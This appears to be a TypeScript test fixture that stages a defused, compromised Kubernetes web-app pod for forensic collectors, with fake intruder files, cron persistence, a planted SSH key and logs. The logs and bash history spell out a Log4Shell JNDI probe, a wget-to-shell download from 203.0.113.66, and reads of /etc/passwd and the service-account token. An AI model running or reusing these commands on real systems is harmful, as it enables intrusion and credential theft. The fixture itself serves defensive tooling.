// SPDX-License-Identifier: Apache-2.0
import type { ContainerSpec, FileSpec, PodSpec } from '../options.ts';

const DIGEST = 'sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef';
const BROKEN_IN = new Date('2026-11-21T02:14:37Z');
const DEPLOYED = new Date('2026-11-03T09:00:00Z');

/**
 * A web application that somebody broke into, to look at: every artefact a collector should find
 * is there, and none of it does any harm. The "miner" sleeps, the keys open nothing.
 */
export function compromisedCart(name: string): PodSpec {
  return {
    name,
    deployment: 'cart',
    labels: { app: 'cart', tier: 'front' },
    annotations: { 'kubectl.kubernetes.io/default-container': 'cart' },
    containers: [cart()],
  };
}

function cart(): ContainerSpec {
  return {
    name: 'cart',
    image: 'registry.example/shop/cart:3.2.0',
    digest: DIGEST,
    flavor: 'debian',
    command: ['/bin/sh', '/app/start.sh'],
    workingDir: '/app',
    env: { NODE_ENV: 'production', CART_DB_HOST: 'cart-db.shop.svc', CART_DB_USER: 'cart' },
    files: [...applicationFiles(), ...intruderFiles()],
    processes: [
      { command: ['/bin/sh', '-c', 'LD_PRELOAD_HIDE=/tmp/.x/libhide.so exec /tmp/.x/kworkerd'] },
      {
        command: ['/dev/shm/.update', '1000000'],
        env: { C2_HOST: '203.0.113.66', C2_PORT: '4444' },
        removeAfterStart: '/dev/shm/.update',
      },
    ],
  };
}

const LISTENER = `use IO::Socket::INET;
my $server = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 0, Listen => 5) or die $!;
print "cart listening on 127.0.0.1:", $server->sockport, "\\n";
$| = 1;
sleep 3600 while 1;
`;

const START = `#!/bin/sh
echo "cart 3.2.0 starting"
echo "database cart-db.shop.svc connected"
if command -v perl >/dev/null; then exec perl /app/server.pl; fi
exec sleep infinity
`;

function applicationFiles(): FileSpec[] {
  const file = (path: string, text: string, mode = 0o644): FileSpec => ({
    path,
    text,
    mode,
    modified: DEPLOYED,
  });
  return [
    file('/app/start.sh', START, 0o755),
    file('/app/server.pl', LISTENER),
    file('/app/package.json', '{"name":"cart","version":"3.2.0","private":true}\n'),
    file('/app/src/index.js', "require('./routes').listen(8080);\n"),
    file('/app/src/routes.js', "exports.listen = (port) => console.log('listening', port);\n"),
    file('/app/public/index.html', '<!doctype html><title>Cart</title><h1>Your cart</h1>\n'),
    file('/app/public/logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>\n'),
    file('/app/config/cart.ini', 'currency=EUR\nworkers=2\n'),
    file('/var/log/cart/access.log', accessLog()),
    file('/var/log/cart/error.log', errorLog()),
  ];
}

function accessLog(): string {
  const line = (time: string, ip: string, request: string, status: string): string =>
    `${ip} - - [21/Nov/2026:${time} +0000] "${request}" ${status} "-" "Mozilla/5.0"\n`;
  const ordinary = Array.from({ length: 200 }, (_, index) => {
    const minute = String(Math.floor(index / 4) % 60).padStart(2, '0');
    const second = String((index * 13) % 60).padStart(2, '0');
    const request = `GET /cart/${1000 + index} HTTP/1.1`;
    return line(`01:${minute}:${second}`, `198.51.100.${(index % 200) + 1}`, request, '200 1834');
  });
  const injection = `GET /cart?item=$\{jndi:ldap://203.0.113.66:1389/Exploit} HTTP/1.1`;
  const upload = 'POST /upload.php?cmd=wget%20http://203.0.113.66/k.sh%20-O-%7Csh HTTP/1.1';
  return [
    ...ordinary,
    line('02:14:35', '203.0.113.66', injection, '500 512'),
    line('02:14:37', '203.0.113.66', upload, '200 17'),
  ].join('');
}

function errorLog(): string {
  return (
    '2026-11-21T02:14:35Z error lookup failed for ldap://203.0.113.66:1389/Exploit\n' +
    '2026-11-21T02:14:37Z warn child process exited: sh -c wget http://203.0.113.66/k.sh\n'
  );
}

const MINER = `#!/bin/sh
# Harmless stand-in for a coin miner: it only sleeps.
# pool=stratum+tcp://203.0.113.66:3333 wallet=44DEMOnotAwallet
while :; do sleep 60; done
`;

const WEBSHELL = `<?php /* stand-in for a web shell, never run */
// if (isset($_REQUEST['cmd'])) system($_REQUEST['cmd']);
`;

const HISTORY = `id
uname -a
cat /etc/passwd
wget http://203.0.113.66/k.sh -O /tmp/.x/k.sh
chmod +x /tmp/.x/kworkerd
/tmp/.x/kworkerd &
echo "*/5 * * * * root /tmp/.x/kworkerd" > /etc/cron.d/.sysupdate
cat /var/run/secrets/kubernetes.io/serviceaccount/token
history -c
`;

function intruderFiles(): FileSpec[] {
  const file = (path: string, text: string, mode = 0o644): FileSpec => ({
    path,
    text,
    mode,
    modified: BROKEN_IN,
  });
  const key =
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedKeyForTheDemoOnlyOpensNothing0000 x@203.0.113.66\n';
  // An executable's head and nothing behind it: looks like a program, cannot run.
  const dropped = Buffer.concat([
    Buffer.from('7f454c4602010100', 'hex'),
    Buffer.alloc(4088),
    Buffer.from('xmrig/6.21.0 stratum+tcp://203.0.113.66:3333'),
  ]);
  return [
    file('/tmp/.x/kworkerd', MINER, 0o755),
    file('/tmp/.x/k.sh', '#!/bin/sh\n# stage one, defused\nexit 0\n', 0o755),
    { path: '/tmp/.x/xmrig', bytes: dropped, mode: 0o755, modified: BROKEN_IN },
    file('/tmp/.x/libhide.so', 'not a library\n'),
    { path: '/dev/shm/.update', copyOfProgram: 'sleep', modified: BROKEN_IN },
    file('/etc/cron.d/.sysupdate', '*/5 * * * * root /tmp/.x/kworkerd >/dev/null 2>&1\n'),
    file('/var/spool/cron/crontabs/root', '@reboot /tmp/.x/kworkerd\n', 0o600),
    file('/root/.ssh/authorized_keys', key, 0o600),
    file('/root/.bash_history', HISTORY, 0o600),
    file('/app/public/upload.php', WEBSHELL),
    { path: '/app/public/.assets', linkTo: '/tmp/.x' },
  ];
}
